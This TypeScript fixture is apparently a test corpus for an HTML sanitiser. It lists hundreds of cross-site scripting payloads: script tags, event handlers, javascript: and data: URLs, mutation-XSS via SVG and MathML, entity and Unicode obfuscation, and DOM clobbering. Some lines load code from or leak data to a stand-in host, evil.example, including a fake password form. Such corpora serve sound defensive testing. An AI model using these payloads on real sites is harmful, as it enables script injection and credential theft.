/**
 * Hostile HTML, written for this project: payloads that have run a script, left the page, loaded a foreign file or changed the layout in
 * some browser or sanitiser. Every payload that runs calls `xss()`. Each line is one payload.
 */
const lines = String.raw`
<script>xss()</script>
<SCRIPT>xss()</SCRIPT>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script type="module">xss()</script>
<script type="text/javascript" async>xss()</script>
<script/xss>xss()</script>
<script	>xss()</script	>
<scr<script>ipt>xss()</scr</script>ipt>
<<script>xss();//<</script>
<script>xss()
<script x>xss()</script y>
<script>/*</p><img src=x onerror=xss()>*/</script>
</p><script>xss()</script><p>
<p><script>xss()</script></p>
<script nonce="">xss()</script>
<script type="importmap">{"imports":{"a":"data:text/javascript,xss()"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example"]}]}</script>
<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>
<noscript><script>xss()</script></noscript>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img src=x onerror='xss()'>
<img src=x OnErRoR=xss()>
<img src=x onerror	=xss()>
<img/src=x/onerror=xss()>
<img src="x" onerror="&#120;ss()">
<img src=x onerror=&#x78;ss&lpar;&rpar;>
<img src=x:x onerror=xss()//
<img """><script>xss()</script>">
<img src=x onload=xss()>
<img src="javascript:xss()">
<img src="JaVaScRiPt:xss()">
<img src="data:text/html,<script>xss()</script>">
<img src="data:image/svg+xml,<svg onload=xss()>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+">
<img src="/pictures/a.webp" onerror="xss()">
<img src="http://evil.example/pixel.gif">
<img src="//evil.example/pixel.gif">
<img src="/\evil.example/pixel.gif">
<img src="\\evil.example\pixel.gif">
<img src="https://user:pass@evil.example/a.png">
<img srcset="x 1x, https://evil.example/y 2x">
<img src="/a.webp" srcset="javascript:xss() 1x">
<img lowsrc="javascript:xss()">
<img dynsrc="javascript:xss()">
<img src=x name=getElementById>
<img src=x id=location>
<img src="/a.webp" usemap="#m"><map name="m"><area href="javascript:xss()" shape=default></map>
<img src="/a.webp" style="position:fixed;inset:0">
<img src="/a.webp" is="x-y" onclick=xss()>
<image src=x onerror=xss()>
<picture><source srcset="x" onerror=xss()><img src=x onerror=xss()></picture>
<a href="javascript:xss()">x</a>
<a href="JAVASCRIPT:xss()">x</a>
<a href=" javascript:xss()">x</a>
<a href="&#1;javascript:xss()">x</a>
<a href="java&#10;script:xss()">x</a>
<a href="java&#9;script:xss()">x</a>
<a href="java&#13;script:xss()">x</a>
<a href="java&Tab;script:xss()">x</a>
<a href="java&NewLine;script:xss()">x</a>
<a href="javascript&colon;xss()">x</a>
<a href="&#106;avascript:xss()">x</a>
<a href="&#x6A;avascript:xss()">x</a>
<a href="&#0000106avascript:xss()">x</a>
<a href="\x6Aavascript:xss()">x</a>
<a href="javascript://%0axss()">x</a>
<a href="javascript:void(xss())">x</a>
<a href="vbscript:xss()">x</a>
<a href="livescript:xss()">x</a>
<a href="data:text/html,<script>xss()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:text/html,xss">x</a>
<a href="blob:https://site/uuid">x</a>
<a href="filesystem:https://site/temporary/x.html">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://evil.example">x</a>
<a href="feed:javascript:xss()">x</a>
<a href="jar:javascript:xss()!/">x</a>
<a href="mhtml:javascript:xss()">x</a>
<a href="intent://evil#Intent;scheme=https;end">x</a>
<a href="//evil.example/">x</a>
<a href="/\evil.example/">x</a>
<a href="\/evil.example/">x</a>
<a href="/	/evil.example/">x</a>
<a href="https:evil.example">x</a>
<a href="https:/evil.example">x</a>
<a href="https:\\evil.example">x</a>
<a href="https://site.example@evil.example/">x</a>
<a href="https://evil.example/" target="_blank">x</a>
<a href="https://evil.example/" target="_top" rel="opener">x</a>
<a href="https://evil.example/" ping="https://evil.example/ping">x</a>
<a href="https://evil.example/" download>x</a>
<a href="/blog" onclick="xss()">x</a>
<a href="/blog" onmouseover=xss()>x</a>
<a href="/blog" onfocus=xss() autofocus tabindex=0>x</a>
<a onpointerrawupdate=xss()>x</a>
<a href="/blog" accesskey=x onclick=xss()>x</a>
<a href="#" id="x" onfocus="xss()">x</a>
<a href='javascript:xss()'><img src=/a.webp></a>
<a href="javascript:xss()"><strong>x</strong></a>
<a id=defaultView href="cid:x">x</a>
<a id=documentElement><a id=documentElement name=x href="tel:1">
<a xlink:href="javascript:xss()">x</a>
<a href="java\0script:xss()">x</a>
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><script href="data:,xss()"/></svg>
<svg><script xlink:href="https://evil.example/x.js"></script></svg>
<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><set onbegin=xss() attributeName=x to=1>
<svg><a><animate attributeName=href values=javascript:xss() /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:xss()'/></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg><title><img src=x onerror=xss()></title></svg>
<svg><desc><img src=x onerror=xss()></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=xss()>">
<svg><p><style><!--</style><img src=x onerror=xss()>--></style>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><feImage href="javascript:xss()"/></svg>
<svg><handler type="text/javascript">xss()</handler></svg>
<svg><text><tref xlink:href="javascript:xss()"/></text></svg>
<math><mi href="javascript:xss()">x</mi></math>
<math href="javascript:xss()">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:xss()">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">
<math><mtext><table><mglyph><style><math href="javascript:xss()">x</math></style>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=xss()></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=xss()>">
<math><style><!--</style><img src=x onerror=xss()>--></math>
<iframe src="javascript:xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe src="https://evil.example"></iframe>
<iframe/onload=xss()></iframe>
<iframe><img src=x onerror=xss()></iframe>
<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>
<frameset onload=xss()><frame src="javascript:xss()"></frameset>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>xss()</script>"></object>
<object type="text/x-scriptlet" data="https://evil.example"></object>
<embed src="javascript:xss()">
<embed src="data:image/svg+xml,<svg onload=xss()>">
<applet code="evil" archive="https://evil.example/x.jar"></applet>
<portal src="javascript:xss()"></portal>
<fencedframe src="https://evil.example"></fencedframe>
<base href="https://evil.example/">
<base href="javascript:xss()//">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="https://evil.example/x.html">
<link rel=prefetch href="https://evil.example/">
<link rel=modulepreload href="https://evil.example/x.js" onload=xss()>
<link rel="icon" href="x" onerror=xss()>
<meta http-equiv="refresh" content="0;url=javascript:xss()">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv="set-cookie" content="a=b">
<meta name="referrer" content="unsafe-url">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url("javascript:xss()")}</style>
<style>p{background:url(https://evil.example/?x)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="xss()">x</p>
<style><img src="</style><img src=x onerror=xss()>">
<p style="background:url(javascript:xss())">x</p>
<p style="width:expression(xss())">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</p>
<p style="background-image:url(https://evil.example/?leak)">x</p>
<p class="mantine-Modal-root">x</p>
<p id="main">x</p>
<p hidden contenteditable onbeforeinput=xss()>x</p>
<p onclick=xss()>x</p>
<p oncontextmenu=xss()>x</p>
<p onmouseenter=xss()>x</p>
<p onpointerover=xss()>x</p>
<p onwheel=xss()>x</p>
<p oncopy=xss()>x</p>
<p onpaste=xss() contenteditable>x</p>
<p ondrag=xss() draggable=true>x</p>
<p onfocusin=xss() tabindex=1>x</p>
<p ontransitionend=xss() style="transition:all 1s">x</p>
<p onscrollend=xss()>x</p>
<p oncontentvisibilityautostatechange=xss() style="content-visibility:auto">x</p>
<p onbeforematch=xss() hidden=until-found>x</p>
<p popover id=p onbeforetoggle=xss()>x</p><button popovertarget=p>x</button>
<p data-bind="text: xss()">x</p>
<p ng-app ng-csp>{{constructor.constructor('xss()')()}}</p>
<p v-html="xss()">{{xss()}}</p>
<p x-init="xss()">x</p>
<p aria-label="x" role="alert">Your session has ended</p>
<p slot="x" part="y">x</p>
<p is="x-evil">x</p>
<p xmlns="http://www.w3.org/2000/svg" onload=xss()>x</p>
<p dir=rtl lang="x" onselectstart=xss()>x</p>
<body onload=xss()>
<body onpageshow=xss()>
<body background="javascript:xss()">
<body onhashchange=xss()><a href=#x>x</a>
<html onmousemove=xss()>
<html manifest="https://evil.example/x.manifest">
<head><script>xss()</script></head>
<title><img src=x onerror=xss()></title>
<form action="javascript:xss()"><button>x</button></form>
<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>
<form><button formaction="javascript:xss()">x</button></form>
<form id=x></form><button form=x formaction=javascript:xss()>x</button>
<form><input name=attributes><input name=parentNode></form>
<form><input id=childNodes><p onclick=xss()>x</p></form>
<form><form></form><img src=x onerror=xss()></form>
<input autofocus onfocus=xss()>
<input type=image src=x onerror=xss()>
<input type=hidden accesskey=x onclick=xss()>
<input value="x" onchange=xss()>
<isindex type=image src=1 onerror=xss()>
<textarea autofocus onfocus=xss()></textarea>
<textarea><img src=x onerror=xss()></textarea>
<select autofocus onfocus=xss()></select>
<select><template><img src=x onerror=xss()></template></select>
<select><iframe></select><img src=x onerror=xss()>
<keygen autofocus onfocus=xss()>
<button onclick=xss()>x</button>
<button command="show-modal" commandfor="d">x</button><dialog id=d onclose=xss()>x</dialog>
<details open ontoggle=xss()>x</details>
<dialog open onclose=xss()>x</dialog>
<marquee onstart=xss()>x</marquee>
<marquee loop=1 width=0 onfinish=xss()>x</marquee>
<video src=x onerror=xss()></video>
<video><source onerror=xss()></video>
<video poster="javascript:xss()"></video>
<video autoplay onloadstart=xss() src="https://evil.example/x.mp4"></video>
<video controls onwebkitfullscreenchange=xss()><track default oncuechange=xss() src="data:text/vtt,WEBVTT">
<audio src=x onerror=xss()>
<audio autoplay oncanplay=xss() src="https://evil.example/x.mp3"></audio>
<bgsound src="javascript:xss()">
<table background="javascript:xss()"><tr><td>x</td></tr></table>
<td background="javascript:xss()">x</td>
<table><tr><td onclick=xss()>x</td></tr></table>
<table><caption><img src=x onerror=xss()></caption></table>
<table><script>xss()</script><tr><td>x</td></tr></table>
<table><td><svg><style><img src=x onerror=xss()></style></svg></td></table>
<template><script>xss()</script></template>
<template><img src=x onerror=xss()></template>
<template shadowrootmode=open><img src=x onerror=xss()></template>
<p><template shadowrootmode="open"><slot onslotchange=xss()></slot></template>x</p>
<xmp><img src=x onerror=xss()></xmp>
<plaintext><img src=x onerror=xss()>
<listing><img src=x onerror=xss()></listing>
<noembed><img src=x onerror=xss()></noembed>
<noframes><img src=x onerror=xss()></noframes>
<layer src="https://evil.example/x.js"></layer>
<custom-element onclick=xss()>x</custom-element>
<x onclick=xss()>x</x>
<x contenteditable onblur=xss()>x</x>
<xss style="xss:expression(xss())">
<!--><img src=x onerror=xss()>-->
<!--[if gte IE 4]><script>xss()</script><![endif]-->
<!-- --!><img src=x onerror=xss()> -->
<!--<img src="--><img src=x onerror=xss()//">
<![CDATA[<script>xss()</script>]]>
<?xml-stylesheet href="javascript:xss()"?>
<?php echo '<script>xss()</script>' ?>
<!DOCTYPE x [<!ENTITY y "<script>xss()</script>">]>&y;
<! foo="><script>xss()</script>">
</ foo="><script>xss()</script>">
<? foo="><script>xss()</script>">
<p title="&quot;&gt;&lt;img src=x onerror=xss()&gt;">x</p>
<a title="</a><img src=x onerror=xss()>">x</a>
<img src="/a.webp" alt="&quot; onerror=&quot;xss()">
<img src="/a.webp" alt="></p><script>xss()</script>">
<img src='/a.webp?"onerror="xss()'>
<img src=/a.webp?x=\ onerror=xss()>
<img alt="x" src="/a.webp"title="y"onerror="xss()">
<a href="/x?a=&quot;><script>xss()</script>">x</a>
<a href='/x"onmouseover="xss()'>x</a>
<a href="/x'onmouseover='xss()">x</a>
<a href=/x%22onmouseover=xss()>x</a>
<a href=${'`'}javascript:xss()${'`'}>x</a>
<a title=${'`'}${'`'} href="javascript:xss()">x</a>
&lt;script&gt;xss()&lt;/script&gt;<script>xss()</script>
&#60;script&#62;xss()&#60;/script&#62;
<p>&lt;img src=x onerror=xss()&gt;</p>
<code><script>xss()</script></code>
<pre><img src=x onerror=xss()></pre>
<blockquote cite="javascript:xss()">x</blockquote>
<del cite="javascript:xss()" datetime=x>x</del>
<ol start="1" type="javascript:xss()"><li value=x onclick=xss()>x</ol>
<h2 onclick=xss()>x</h2>
<h1><img src=x onerror=xss()></h1>
<figure><img src=x onerror=xss()><figcaption onclick=xss()>x</figcaption></figure>
<strong><em><a href="javascript:xss()"><del>x</em></strong></a>
<b><i><u><s><a href=javascript:xss()>x
<p><p><p><p><img src=x onerror=xss()>
<div><div><div><script>xss()</script></div></div></div>
<font color="x" onclick=xss()>x</font>
<center onclick=xss()>x</center>
<nobr><img src=x onerror=xss()></nobr>
<ruby><rt><img src=x onerror=xss()></rt></ruby>
<label for=x onclick=xss()>x</label>
<output name=x onclick=xss()>x</output>
<progress onclick=xss()></progress>
<object><param name="src" value="javascript:xss()"></object>
<a/href="javascript:xss()"/>x</a>
<a	href	=	"javascript:xss()"	>x</a>
<a href="jAvAsCrIpT&#58;xss()">x</a>
<a href="javascript&#x3A;xss()">x</a>
<a href="javascript&#0058xss()">x</a>
<A HREF="https://evil.example/" TARGET=_self ONCLICK="xss()">x</A>
<img
src
=x
onerror
=xss()
>
`;

const trimmed = lines.trim().split('\n');
const splitTagStart = trimmed.indexOf('<img');

/** The payloads of one line each, the last one above, which has several lines, and some with special characters. */
export const xssCorpus: readonly string[] = [
  ...trimmed.slice(0, splitTagStart),
  trimmed.slice(splitTagStart).join('\n'),
  `<a href="java\u0000script:xss()">x</a>`,
  `<a href="\u0001javascript:xss()">x</a>`,
  `<a href="\u2028javascript:xss()">x</a>`,
  `<a href="\u00A0javascript:xss()">x</a>`,
  `<a href="\uFEFFjavascript:xss()">x</a>`,
  `<a href="https://evil.example/\u202Egpj.exe">x</a>`,
  `<img src=x onerror\u0000=xss()>`,
  `<img src=x\u000Conerror=xss()>`,
  `<scr\u0000ipt>xss()</scr\u0000ipt>`,
  `<\u0000script>xss()</script>`,
  `\uFF1Cscript\uFF1Exss()\uFF1C/script\uFF1E`,
  `<ſcript>xss()</ſcript>`,
  `<ıframe src="javascript:xss()"></ıframe>`,
  `${'<b>'.repeat(600)}<img src=x onerror=xss()>`,
  `${'<table><tr><td>'.repeat(120)}<script>xss()</script>`,
  `<img src="/a.webp" alt="${'&quot;'.repeat(500)}" onerror=xss()>`,
  `<a href="${'/'.repeat(3)}evil.example">x</a>`,
  `<a href="javascript:${'/'.repeat(2000)}%0axss()">x</a>`,
];
